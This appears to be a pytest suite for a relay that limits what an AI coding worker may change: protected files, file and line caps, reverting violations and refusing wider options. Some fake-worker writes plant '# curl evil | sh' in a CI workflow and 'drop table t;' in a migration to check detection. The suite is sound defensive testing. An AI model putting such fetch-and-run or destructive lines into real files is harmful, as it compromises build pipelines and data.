"""Enforced policy (issue 10): protected files, max_files / max_lines, revert in place, narrowing only.

Real git repositories in tmp dirs; the fake agy runs as a real subprocess behind the in-memory relay.
"""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import pytest

from conftest import cli_main, git, make_repo, memory_relay, payload, relay_env
from fake_agy_harness import failure_scenario, install_fake_agy, launches, set_scenario, success_scenario
from relay.agy.classify import Verdict
from relay.call.enforce import check_policy, enforce_policy
from relay.call.limits import AskedLimits
from relay.call.policy import CallOptions, resolve_plan
from relay.core.contracts import FileChange, Status
from relay.core.errors import RelayError
from relay.core.path_globs import path_matches, pattern_within
from relay.core.settings import load_settings
from relay.observe import snapshot as snapshot_mod
from relay.observe.changes import observe_changes
from relay.observe.restore import restore_paths
from relay.observe.snapshot import take_snapshot

BINARY = bytes(range(256)) * 3

pytestmark = pytest.mark.anyio


def _env(tmp_path: Path, agy: Path, profiles: dict, default: str = "app") -> dict[str, str]:
    return relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles),
                     GRAVITY_RELAY_DEFAULT_PROFILE=default)


async def _run(env: dict[str, str], args: dict) -> tuple[dict, dict]:
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", args))
        full = payload(await client.call_tool("antigravity_get_result", {"run_id": packet["run_id"], "detail": "full"}))
    return packet, full


async def test_enforced_policy_a_protected_file_written_gives_policy_violation_and_keeps_the_change(tmp_path, repo):
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": ".github/workflows/ci.yml", "content": "on: push\n"},
        {"op": "write", "path": "src/ok.py", "content": "ok = 1\n"},
    ]))
    profiles = {"app": {"workspace": str(repo), "protected": [".github/**", "*.lock"]}}
    packet, full = await _run(_env(tmp_path, agy, profiles), {"task": "add CI"})

    assert packet["status"] == "POLICY_VIOLATION" and packet["ok"] is False
    message = packet["error"]["message"]
    assert "protected (.github/**, *.lock)" in message and ".github/workflows/ci.yml" in message
    assert "src/ok.py" not in message  # only the offending file is named
    assert set(packet["changes"]["files"]) == {".github/workflows/ci.yml", "src/ok.py"}  # still listed
    assert full["outcome"]["violation"] == {"rules": ["protected"], "files": [".github/workflows/ci.yml"],
                                 "limits": ["protected (.github/**, *.lock): 1 file(s) touched: .github/workflows/ci.yml"]}
    assert (repo / ".github/workflows/ci.yml").read_text(encoding="utf-8") == "on: push\n"  # on_violation "keep" by default
    # The worker was told up front.
    prompt = launches(agy)[-1]["argv"][-1]
    assert "Never create, edit, delete or rename files matching: .github/**, *.lock" in prompt


async def test_enforced_policy_300_files_against_max_files_50_gives_policy_violation_and_continue_inherits(tmp_path, repo):
    edits = [{"op": "write", "path": f"gen/f{i:03}.txt", "content": f"{i}\n"} for i in range(300)]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits))
    env = _env(tmp_path, agy, {"app": {"workspace": str(repo), "max_files": 100, "max_lines": 5000}})
    async with memory_relay(env) as client:
        # A call narrows the profile's 100 to 50.
        packet = payload(await client.call_tool("antigravity_execute", {"task": "generate", "max_files": 50}))
        assert packet["status"] == "POLICY_VIOLATION", packet
        assert "max_files 50: 300 files changed" in packet["error"]["message"]
        assert packet["changes"]["count"] == 300
        prompt = launches(agy)[-1]["argv"][-1]
        assert "Change at most 50 files in total." in prompt and "Change at most 5000 lines" in prompt

        # A continue keeps the run's limits: told again, and never widened past them.
        set_scenario(agy, success_scenario([{"op": "write", "path": "gen/one.txt", "content": "1\n"}]))
        wider = payload(await client.call_tool("antigravity_continue", {"run_id": packet["run_id"], "feedback": "fewer",
                                                                        "max_files": 80}))
        assert wider["status"] == "CONFLICTING_OPTIONS"
        assert "max_files 80 is above the run's max_files 50" in wider["error"]["message"]
        follow = payload(await client.call_tool("antigravity_continue", {"run_id": packet["run_id"], "feedback": "fewer"}))
        assert follow["status"] == "SUCCESS", follow
        assert "Change at most 50 files in total." in launches(agy)[-1]["argv"][-1]


async def test_enforced_policy_revert_in_place_restores_exactly_the_violating_files(tmp_path, monkeypatch):
    repo = make_repo(tmp_path / "project", {
        "src/app.py": "def main():\n    return 1\n",
        "config/settings.toml": "debug = false\n",
        "config/old.toml": "old = true\n",
        "config/blob.bin": "placeholder\n",
        "config/local.toml": "local = 1\n",
    })
    (repo / "config/blob.bin").write_bytes(BINARY)
    git(repo, "commit", "-qam", "binary")
    # The user's own edits before the run: never the worker's, never touched by the revert.
    (repo / "src/app.py").write_text("def main():\n    return 2  # user edit\n", encoding="utf-8")
    (repo / "notes.txt").write_text("user notes\n", encoding="utf-8")
    (repo / "config/local.toml").write_text("local = 2  # user edit\n", encoding="utf-8")
    # Untracked and past the (lowered) size rule: kept out of the trees, so its before is unknown.
    (repo / "config/big.toml").write_text("big = 1\n" + "#" * 3000 + "\n", encoding="utf-8")
    before = {p: (repo / p).read_bytes() for p in
              ("src/app.py", "notes.txt", "config/settings.toml", "config/old.toml", "config/blob.bin", "config/local.toml")}
    monkeypatch.setattr(snapshot_mod, "TREE_FILE_MAX", 2000)

    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "append", "path": "src/app.py", "content": "# worker line\n"},
        {"op": "write", "path": "config/settings.toml", "content": "debug = true\n"},
        {"op": "delete", "path": "config/old.toml"},
        {"op": "write", "path": "config/blob.bin", "content_b64": base64.b64encode(BINARY[::-1]).decode()},
        {"op": "chmod", "path": "config/local.toml", "mode": "755"},
        {"op": "append", "path": "config/big.toml", "content": "worker = 1\n"},
        {"op": "write", "path": "poetry.lock", "content": "# lock\n"},
    ]))
    profiles = {"app": {"workspace": str(repo), "protected": ["config/", "*.lock"], "on_violation": "revert"}}
    packet, full = await _run(_env(tmp_path, agy, profiles), {"task": "t"})

    assert packet["status"] == "POLICY_VIOLATION", packet
    violation = full["outcome"]["violation"]
    assert violation["restored"] == ["config/blob.bin", "config/local.toml", "config/old.toml", "config/settings.toml",
                                     "poetry.lock"]
    assert list(violation["not_restored"]) == ["config/big.toml"]
    assert "not kept" in violation["not_restored"]["config/big.toml"]
    assert "could not restore 1: config/big.toml" in packet["error"]["message"]
    for path in ("notes.txt", "config/settings.toml", "config/old.toml", "config/blob.bin", "config/local.toml"):
        assert (repo / path).read_bytes() == before[path], path
    assert not os.access(repo / "config/local.toml", os.X_OK)  # the mode change is undone too
    assert not (repo / "poetry.lock").exists()  # added by the worker: removed
    assert (repo / "src/app.py").read_bytes() == before["src/app.py"] + b"# worker line\n"  # allowed: kept
    assert (repo / "config/big.toml").read_text(encoding="utf-8").endswith("worker = 1\n")  # before unknown: left alone
    # The packet still lists every change the worker made.
    assert packet["changes"]["count"] == 7
    assert git(repo, "status", "--porcelain") == (" M config/local.toml\n M src/app.py\n?? config/big.toml\n"
                                                  "?? notes.txt\n")


def test_restore_paths_outside_git_uses_the_walked_snapshot(tmp_path):
    ws = tmp_path / "plain"
    (ws / "keep").mkdir(parents=True)
    (ws / "keep/a.txt").write_bytes(b"a\r\n\x00")
    snap = take_snapshot(ws)
    assert snap.source == "tree"
    (ws / "keep/a.txt").write_text("changed", encoding="utf-8")
    (ws / "keep/new.txt").write_text("new", encoding="utf-8")
    (ws / "node_modules").mkdir()
    (ws / "node_modules/x.js").write_text("x", encoding="utf-8")
    restored, refused = restore_paths(snap, ["keep/a.txt", "keep/new.txt", "node_modules/x.js"])
    assert restored == ["keep/a.txt", "keep/new.txt"]
    assert (ws / "keep/a.txt").read_bytes() == b"a\r\n\x00" and not (ws / "keep/new.txt").exists()
    assert list(refused) == ["node_modules/x.js"] and (ws / "node_modules/x.js").exists()


def test_restore_never_deletes_a_big_untracked_file_of_a_workspace_in_a_sub_folder(tmp_path, monkeypatch):
    # Broke: a file kept out of the trees by size is keyed by its path in the repository ("sub/big.bin"), but the
    # check asked with the workspace's ("big.bin"): not found, so the before tree's silence read as "it was not
    # there" and the revert deleted the user's file.
    import relay.observe.restore as restore
    import relay.observe.snapshot as snapshot

    monkeypatch.setattr(snapshot, "TREE_FILE_MAX", 1000)
    monkeypatch.setattr(restore, "TREE_FILE_MAX", 1000)
    ws = make_repo(tmp_path / "project", {"sub/a.txt": "a\n"}) / "sub"
    (ws / "big.bin").write_bytes(b"x" * 5000)
    snap = take_snapshot(ws, tmp_path / "trees")
    (ws / "big.bin").write_bytes(b"the worker's")
    restored, refused = restore_paths(snap, ["big.bin"])
    assert restored == [] and "larger than" in refused["big.bin"], refused
    assert (ws / "big.bin").read_bytes() == b"the worker's"  # left as it is, and said: never deleted


def test_restore_paths_never_writes_through_a_folder_turned_into_a_symlink(tmp_path, repo):
    # Issue 34 §3: the folder the worker swapped for a link comes back as a folder (the link removed, never
    # written through); a symlinked folder the before tree already had is still refused.
    snap = take_snapshot(repo)
    outside = tmp_path / "outside"
    outside.mkdir()
    original = (repo / "src/app.py").read_bytes()
    (repo / "src/app.py").unlink()
    (repo / "src").rmdir()
    (repo / "src").symlink_to(outside)
    restored, refused = restore_paths(snap, ["src/app.py"])
    assert restored == ["src/app.py"] and refused == {}
    assert not (repo / "src").is_symlink() and (repo / "src/app.py").read_bytes() == original
    assert list(outside.iterdir()) == []
    (repo / "lib").symlink_to(outside)  # there before the next snapshot: the user's own link
    snap = take_snapshot(repo)
    restored, refused = restore_paths(snap, ["lib/x.py"])
    assert restored == [] and "leads out of the workspace" in refused["lib/x.py"]
    assert list(outside.iterdir()) == []


def test_enforce_policy_a_rename_into_a_protected_folder_is_undone_whole_in_a_subfolder_workspace(tmp_path):
    text = "".join(f"line {i}\n" for i in range(20))
    repo = make_repo(tmp_path / "mono", {"app/src/a.py": text, "other/b.txt": "b\n"})
    ws = repo / "app"
    before = take_snapshot(ws)
    (ws / "config").mkdir()
    (ws / "src/a.py").rename(ws / "config/a.py")
    files = observe_changes(before, ws).files
    assert [(c.kind, c.path, c.old_path) for c in files] == [("renamed", "config/a.py", "src/a.py")]
    plan = _plan(tmp_path, {"protected": ["config/"], "on_violation": "revert"})
    verdict, violation = enforce_policy(plan, files, before, Verdict(status=Status.SUCCESS, message="", hint=""))
    assert verdict.status is Status.POLICY_VIOLATION and "config/a.py" in verdict.message
    assert violation.restored == ["config/a.py", "src/a.py"] and violation.not_restored == {}
    assert (ws / "src/a.py").read_text(encoding="utf-8") == text and not (ws / "config/a.py").exists()
    assert git(repo, "status", "--porcelain") == ""


def test_check_policy_names_each_rule_that_fired_with_its_limit_and_files(tmp_path):
    files = [FileChange(path="src/a.py", additions=30, deletions=5),
             FileChange(path="lib/b.py", kind="renamed", old_path="src/b.py", additions=1),
             FileChange(path="src/c.bin", binary=True)]
    plan = _plan(tmp_path, {"paths": ["src/"], "max_lines": 35})
    violation = check_policy(plan, files)
    assert violation.rules == ["paths", "max_lines"]
    assert violation.limits == ["paths (src/): 1 file(s) outside: lib/b.py",
                                "max_lines 35: 36 lines changed (added + removed)"]
    assert violation.files == ["lib/b.py", "src/b.py", "src/a.py", "src/c.bin"]  # the whole change, for max_lines
    assert check_policy(_plan(tmp_path, {"paths": ["src/", "lib/"], "max_lines": 36, "max_files": 3}), files) is None


# --------------------------------------------------------------------------- narrowing


def _plan(tmp_path: Path, profile: dict, **asked):
    (tmp_path / "ws").mkdir(exist_ok=True)  # beside the data dir: a workspace holding it is refused
    settings = load_settings({"GRAVITY_RELAY_DATA_DIR": str(tmp_path / "data"),
                              "GRAVITY_RELAY_PROFILES": json.dumps({"app": {"workspace": str(tmp_path / "ws"),
                                                                            **profile}})})
    return resolve_plan(CallOptions(profile="app", limits=AskedLimits(**asked)), settings)


@pytest.mark.parametrize(("profile", "asked", "named"), [
    ({"max_files": 50}, {"max_files": 51}, "max_files 51 is above profile 'app''s max_files 50"),
    ({"max_lines": 400}, {"max_lines": 1000}, "max_lines 1000 is above profile 'app''s max_lines 400"),
    ({"paths": ["src/"]}, {"paths": ["src/api", "lib"]}, "paths 'lib' lie outside profile 'app''s paths (src/)"),
    ({"paths": ["src/"]}, {"paths": ["*.py"]}, "paths '*.py' lie outside profile 'app''s paths (src/)"),
    ({"on_violation": "revert"}, {"on_violation": "keep"}, "would widen profile 'app''s on_violation 'revert'"),
])
def test_resolve_plan_a_call_widening_the_policy_is_refused_naming_the_bound(tmp_path, profile, asked, named):
    with pytest.raises(RelayError) as info:
        _plan(tmp_path, profile, **asked)
    assert info.value.status is Status.CONFLICTING_OPTIONS
    assert named in info.value.message


def test_resolve_plan_a_call_narrows_the_policy_and_adds_protected_patterns(tmp_path):
    plan = _plan(tmp_path, {"paths": ["src/"], "protected": ["*.lock"], "max_files": 50},
                 paths=["src/api/"], protected=["src/api/schema.sql"], max_files=10, max_lines=99, on_violation="revert")
    assert (plan.paths, plan.protected) == (["src/api/"], ["*.lock", "src/api/schema.sql"])
    assert (plan.max_files, plan.max_lines, plan.on_violation) == (10, 99, "revert")


@pytest.mark.parametrize(("profile", "asked", "named"), [
    ({"protected": ["../secrets"]}, {}, "profile 'app': protected pattern '../secrets' leads out of the workspace"),
    ({}, {"paths": ["/etc"]}, "the call's paths pattern '/etc' is absolute"),
])
def test_resolve_plan_a_pattern_leaving_the_workspace_is_refused(tmp_path, profile, asked, named):
    with pytest.raises(RelayError) as info:
        _plan(tmp_path, profile, **asked)
    assert info.value.status is Status.INVALID_INPUT and named in info.value.message


@pytest.mark.parametrize(("path", "pattern", "matches"), [
    ("src/a/b.py", "src", True), ("srcx/a.py", "src/", False), ("src/a/b.py", "src/*.py", False),
    ("src/b.py", "src/*.py", True), ("x/y/poetry.lock", "*.lock", True), (".github/workflows/ci.yml", ".github/**", True),
    ("a/.github/ci.yml", ".github/**", False), ("a/b/package-lock.json", "**/package-lock.json", True),
    ("db/migrations/0001.py", "**/migrations/", True), ("anything/at/all", ".", True),
])
def test_path_matches_follows_the_documented_pattern_rules(path, pattern, matches):
    assert path_matches(path, pattern) is matches


def test_pattern_within_accepts_only_narrower_patterns():
    assert pattern_within("src/api/*.py", ["src/"]) and pattern_within("src/**/test_*.py", ["src/**/*.py"])
    assert not pattern_within("s*", ["src"]) and not pattern_within("*.py", ["src"]) and not pattern_within("lib", ["src"])


async def test_enforced_policy_revert_leaves_a_patch_of_what_is_left_so_runs_revert_undoes_the_rest(tmp_path):
    # Broke once on merging: the run's patch was written before the policy restored the protected file, so
    # `runs revert` found that file already back and refused the whole revert.
    from relay.runs.patches import revert_run
    from relay.runs.store import RunStore

    repo = make_repo(tmp_path / "project", {"src/app.py": "def main():\n    return 1\n", "config/settings.toml": "a = 1\n"})
    (repo / "notes.txt").write_text("user notes\n", encoding="utf-8")
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "append", "path": "src/app.py", "content": "# worker line\n"},
        {"op": "write", "path": "config/settings.toml", "content": "a = 2\n"},
    ]))
    profiles = {"app": {"workspace": str(repo), "protected": ["config/"], "on_violation": "revert"}}
    packet, full = await _run(_env(tmp_path, agy, profiles), {"task": "t"})
    assert packet["status"] == "POLICY_VIOLATION" and full["outcome"]["violation"]["restored"] == ["config/settings.toml"]
    assert packet["changes"]["count"] == 2  # the packet still lists both

    assert revert_run(RunStore(tmp_path / "data" / "runs"), packet["run_id"]).reverted
    assert (repo / "src/app.py").read_text(encoding="utf-8") == "def main():\n    return 1\n"
    assert (repo / "config/settings.toml").read_text(encoding="utf-8") == "a = 1\n"
    assert git(repo, "status", "--porcelain") == "?? notes.txt\n"


async def test_enforced_policy_a_cancelled_run_that_wrote_a_protected_file_keeps_cancelled_and_is_reverted(tmp_path, repo):
    # Broke before: a run stopped mid-way (antigravity_cancel, client gone, relay stopping) skipped the
    # policy, so a protected file the worker wrote before the stop stayed in the tree, unflagged.
    import anyio
    from mcp import Client

    from relay.doors.mcp_server import create_server
    from relay.runs.store import RunStore

    agy = install_fake_agy(tmp_path / "bin", failure_scenario("hang", edits=[
        {"op": "write", "path": ".github/workflows/ci.yml", "content": "on: push\n"},
        {"op": "write", "path": "src/ok.py", "content": "ok = 1\n"}]))
    profiles = {"app": {"workspace": str(repo), "protected": [".github/**"], "on_violation": "revert"}}
    async with Client(create_server(load_settings(_env(tmp_path, agy, profiles)))) as client:
        running = payload(await client.call_tool("antigravity_execute", {"task": "t", "wait_seconds": 0.2}))
        assert running["status"] == "RUNNING", running
        with anyio.fail_after(30):
            # The worker's edits are done; it now hangs. Its last file's bytes, not the file: the fake creates it, then
            # writes it, and a cancel in between (flaked under load) killed it with "ok = 1" still in its buffer.
            while not _has(repo / "src/ok.py", b"ok = 1\n"):
                await anyio.sleep(0.05)
        packet = payload(await client.call_tool("antigravity_cancel", {"run_id": running["run_id"]}))

    assert packet["status"] == "CANCELLED" and packet["ok"] is False  # why it ended stays the status
    assert "protected (.github/**): 1 file(s) touched: .github/workflows/ci.yml" in packet["error"]["message"]
    assert any(flag.startswith("policy violation") for flag in packet["flags"]), packet["flags"]
    assert set(packet["changes"]["files"]) == {".github/workflows/ci.yml", "src/ok.py"}  # still listed
    assert not (repo / ".github/workflows/ci.yml").exists()  # reverted, like a finished run's
    assert (repo / "src/ok.py").read_text(encoding="utf-8") == "ok = 1\n"
    record = RunStore(tmp_path / "data" / "runs").read(running["run_id"])
    assert record.outcome.status is Status.CANCELLED and record.outcome.violation is not None
    assert record.outcome.violation.rules == ["protected"] and record.outcome.violation.restored == [".github/workflows/ci.yml"]
    # The run lists keep both: why it ended (CANCELLED) and that it broke the policy.
    env = _env(tmp_path, agy, profiles)
    listed = cli_main(["runs", "list"], env)
    assert listed.returncode == 0 and "CANCELLED" in listed.stdout and "! policy violation" in listed.stdout, listed
    listed = cli_main(["runs", "list", "--json"], env)
    assert json.loads(listed.stdout.splitlines()[0])["policy_violation"] is True, listed.stdout


def _has(path: Path, data: bytes) -> bool:
    try:
        return path.read_bytes() == data
    except OSError:
        return False


def test_apply_run_refuses_a_cancelled_worktree_run_that_carries_a_violation(tmp_path):
    # A stopped run keeps its CANCELLED status; apply checked only the POLICY_VIOLATION status, so it
    # would have brought a cancelled run's violating change into the user's tree.
    from relay.call.apply_run import apply_run
    from relay.core.contracts import PolicyViolation, RecordIsolation, RecordOutcome, RecordPlan, RunRecord
    from relay.runs.store import RunStore, new_run_id, now_iso

    store = RunStore(tmp_path / "runs")
    run_id = new_run_id()
    store.write(RunRecord(run_id=run_id, created_at=now_iso(), state="finished",
                          plan=RecordPlan(workspace=str(tmp_path)),
                          outcome=RecordOutcome(status=Status.CANCELLED, violation=PolicyViolation(
                              rules=["protected"], files=[".github/ci.yml"])),
                          isolation=RecordIsolation(branch="gravity-relay/x", base_commit="0" * 40, tip_commit="1" * 40)))
    answer = apply_run(store, run_id)
    assert answer.status is Status.INVALID_INPUT and "broke its profile's policy" in answer.error.message


@pytest.mark.parametrize("isolation", ["in_place", "worktree"])
async def test_a_call_cannot_move_its_profiles_patterns_by_naming_a_sub_folder_as_workspace(tmp_path, isolation):
    # The profile's paths and protected are written from its workspace. Before: a call that named a sub-folder had
    # them matched from that folder instead, so `sub/migrations/**` named nothing there and the worker rewrote
    # sub/migrations/001.sql, and (in place) its ../.github write was not even observed: SUCCESS both times.
    repo = make_repo(tmp_path / "project", {"sub/a.txt": "a\n", "sub/migrations/001.sql": "create table t;\n",
                                           ".github/workflows/ci.yml": "on: push\n"})
    ops = [{"op": "write", "path": "migrations/001.sql", "content": "drop table t;\n"}]
    if isolation == "in_place":  # a worktree run's write outside its folder is a violation already (rule workspace)
        ops.append({"op": "write", "path": "../.github/workflows/ci.yml", "content": "on: push\n# curl evil | sh\n"})
    agy = install_fake_agy(tmp_path / "bin", success_scenario(ops))
    profiles = {"app": {"workspace": str(repo), "isolation": isolation,
                        "protected": ["sub/migrations/**", ".github/**"]}}
    env = _env(tmp_path, agy, profiles)
    async with memory_relay(env) as client:
        moved = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo / "sub")}))
        assert moved["status"] == "CONFLICTING_OPTIONS", moved
        assert "'app'" in moved["error"]["message"] and "sub/migrations/**" in moved["error"]["message"], moved
        assert 'paths: ["sub/"]' in moved["error"]["hint"], moved
        assert launches(agy) == []
        # The way the hint names: the profile's workspace, narrowed by paths; the patterns mean what they say.
        set_scenario(agy, success_scenario([
            {"op": "write", "path": "sub/migrations/001.sql", "content": "drop table t;\n"},
            {"op": "write", "path": ".github/workflows/ci.yml", "content": "on: push\n# curl evil | sh\n"}]))
        narrowed = payload(await client.call_tool("antigravity_execute", {"task": "t", "paths": ["sub/"]}))
    assert narrowed["status"] == "POLICY_VIOLATION", narrowed
    assert "sub/migrations/001.sql" in narrowed["error"]["message"], narrowed
    assert ".github/workflows/ci.yml" in narrowed["error"]["message"], narrowed


async def test_a_profile_naming_no_workspace_cannot_have_its_patterns_moved_by_a_sub_folder_of_a_repository(tmp_path):
    # A profile without a workspace has its paths and protected read from the call's workspace, the project the call
    # names. Before: a call that named a sub-folder of a git repository had them read from that folder, as with a
    # narrowed profile workspace: `sub/migrations/**` named nothing there, and the worker's rewrite came back SUCCESS.
    repo = make_repo(tmp_path / "project", {"sub/a.txt": "a\n", "sub/migrations/001.sql": "create table t;\n"})
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "migrations/001.sql", "content": "drop table t;\n"}]))
    env = _env(tmp_path, agy, {"app": {"protected": ["sub/migrations/**"]}})
    async with memory_relay(env) as client:
        moved = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo / "sub")}))
        assert moved["status"] == "CONFLICTING_OPTIONS", moved
        assert str(repo.resolve()) in moved["error"]["message"], moved
        assert 'paths: ["sub/"]' in moved["error"]["hint"], moved
        assert launches(agy) == []
        set_scenario(agy, success_scenario([{"op": "write", "path": "sub/migrations/001.sql",
                                             "content": "drop table t;\n"}]))
        top = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
                                                                     "paths": ["sub/"]}))
    assert top["status"] == "POLICY_VIOLATION" and "sub/migrations/001.sql" in top["error"]["message"], top
    # A repository's own top level (a submodule's, a nested clone's) is its project: its patterns are read from it.
